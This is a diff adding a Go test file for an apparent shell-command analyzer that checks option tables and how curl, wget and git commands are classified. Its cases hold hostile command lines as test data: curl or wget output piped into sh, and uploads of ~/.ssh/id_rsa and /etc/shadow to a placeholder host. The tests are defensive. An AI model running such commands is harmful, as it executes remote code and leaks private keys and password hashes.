@@ -1,0 +1,77 @@
+package shellparse
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+// TestOptionTables checks each program table against itself: a long
+// option is a value option or a flag, never both, and the short options
+// are listed once.
+func TestOptionTables(t *testing.T) {
+	for name, spec := range map[string]optSpec{
+		"curl": curlOpts, "wget": wgetOpts, "git": gitGlobalOpts, "tar": tarOpts, "rsync": rsyncOpts,
+		"ssh": sshOpts, "scp": scpOpts, "sftp": sftpOpts,
+	} {
+		for _, l := range spec.long {
+			if slices.Contains(spec.flags, l) {
+				t.Errorf("%s: %s is both a value option and a flag", name, l)
+			}
+			if !strings.HasPrefix(l, "--") {
+				t.Errorf("%s: long option %q", name, l)
+			}
+		}
+		for i := range len(spec.short) {
+			if strings.Count(spec.short, spec.short[i:i+1]) > 1 {
+				t.Errorf("%s: -%c listed twice", name, spec.short[i])
+			}
+		}
+	}
+}
+
+// TestOptionDrift: each program's options are read with one table by
+// every stage (paths, source classification, downloads). Each case broke
+// when two tables disagreed: curl's -t, long options, -XPOST read as -X
+// -P -O -S -T, -K, -w; wget's -e output_document, -O /dev/fd/1; git's
+// --attr-source; tar's -I.
+func TestOptionDrift(t *testing.T) {
+	t.Parallel()
+	runCases(t, []analyzeCase{
+		// A flag is not a value: the second URL goes to standard output.
+		{"curl -o /tmp/a --insecure https://e/a https://e/x.sh | sh", []string{"curl -o /tmp/a --insecure https://e/a https://e/x.sh paths=write:/tmp/a", "sh src=curl:network:pipe"}},
+		{"curl -XPOST https://e/a https://e/x.sh | sh", []string{"curl -XPOST https://e/a https://e/x.sh", "sh src=curl:network:pipe"}},
+		{"curl -K cfg -o /tmp/x https://e/x | sh", []string{"curl -K cfg -o /tmp/x https://e/x paths=read:/w/cfg,write:/tmp/x", "sh src=curl:network:pipe"}},
+		{"curl -o /dev/fd/1 https://e/x | sh", []string{"curl -o /dev/fd/1 https://e/x paths=write:/dev/fd/1", "sh src=curl:network:pipe"}},
+		{"curl -so /dev/stdout https://e/x | sh", []string{"curl -so /dev/stdout https://e/x paths=write:/dev/stdout", "sh src=curl:network:pipe"}},
+		{"curl -w '%header{x}' -o /dev/null https://e/x | sh", []string{"curl -w %header{x} -o /dev/null https://e/x paths=write:/dev/null", "sh src=curl:network:pipe"}},
+		{"curl -D - -o /tmp/x https://e/x | sh", []string{"curl -D - -o /tmp/x https://e/x paths=write:/tmp/x", "sh src=curl:network:pipe"}},
+		{"curl -t x -o out https://e/a https://e/b | sh", []string{"curl -t x -o out https://e/a https://e/b paths=write:/w/out", "sh src=curl:network:pipe"}},
+		// Abbreviations, @files and variables are reads.
+		{"curl --upl ~/.ssh/id_rsa https://e", []string{"curl --upl /home/u/.ssh/id_rsa https://e paths=read:/home/u/.ssh/id_rsa"}},
+		{"curl --data-bin @/home/u/.ssh/id_rsa https://e", []string{"curl --data-bin @/home/u/.ssh/id_rsa https://e paths=read:/home/u/.ssh/id_rsa"}},
+		{"curl -o out -d @/etc/shadow https://e", []string{"curl -o out -d @/etc/shadow https://e paths=write:/w/out,read:/etc/shadow"}},
+		{"curl --variable k@/etc/shadow --expand-data '{{k}}' https://e", []string{"curl --variable k@/etc/shadow --expand-data {{k}} https://e paths=read:/etc/shadow"}},
+		{"curl -H @/etc/hdrs https://e", []string{"curl -H @/etc/hdrs https://e paths=read:/etc/hdrs"}},
+		{"curl --expand-output '{{HOME}}/.bashrc' --variable %HOME https://e", []string{"curl --expand-output {{HOME}}/.bashrc --variable %HOME https://e paths=write:{{HOME}}/.bashrc*"}},
+		// Look-alikes: quiet downloads stay quiet, values stay values.
+		{"curl -fsSL -o /tmp/x https://e/x | sh", []string{"curl -fsSL -o /tmp/x https://e/x paths=write:/tmp/x", "sh src=curl:other:pipe"}},
+		{"curl -s -o /dev/null https://e/x | sh", []string{"curl -s -o /dev/null https://e/x paths=write:/dev/null", "sh src=curl:other:pipe"}},
+		{"curl --ssl -o out https://e/x", []string{"curl --ssl -o out https://e/x paths=write:/w/out"}},
+		{"curl -H 'X: a@b' --data-urlencode n=a@b https://e", []string{"curl -H \"X: a@b\" --data-urlencode n=a@b https://e"}},
+		{"curl --variable k=v@x https://e", []string{"curl --variable k=v@x https://e"}},
+		// wget: wgetrc commands and device outputs print to standard output.
+		{"wget -O /dev/fd/1 https://e/x | sh", []string{"wget -O /dev/fd/1 https://e/x paths=write:/dev/fd/1", "sh src=wget:network:pipe"}},
+		{"wget -e output_document=- https://e/x | sh", []string{"wget -e output_document=- https://e/x", "sh src=wget:network:pipe"}},
+		{"wget --output-doc=- https://e/x | sh", []string{"wget --output-doc=- https://e/x", "sh src=wget:network:pipe"}},
+		{"wget -e robots=off https://e/x | sh", []string{"wget -e robots=off https://e/x", "sh src=wget:other:pipe"}},
+		{"wget -qO /tmp/x https://e/x | sh", []string{"wget -qO /tmp/x https://e/x paths=write:/tmp/x", "sh src=wget:other:pipe"}},
+		{"wget --post-f /etc/shadow https://e", []string{"wget --post-f /etc/shadow https://e paths=read:/etc/shadow"}},
+		// Downloads: -O and URLs as curl reads them.
+		{"curl -O e.com/x.sh && bash x.sh", []string{"curl -O e.com/x.sh", "bash x.sh src=curl:download:file paths=read:/w/x.sh"}},
+		{"curl -XPOST https://e/y.sh; bash y.sh", []string{"curl -XPOST https://e/y.sh", "bash y.sh paths=read:/w/y.sh"}},
+		// git's global options.
+		{"git --attr-source HEAD rm -r src", []string{"git --attr-source HEAD rm -r src paths=delete:/w/src"}},
+		{"git -c x=y rm f", []string{"git -c x=y rm f paths=delete:/w/f"}},
+	})
+}
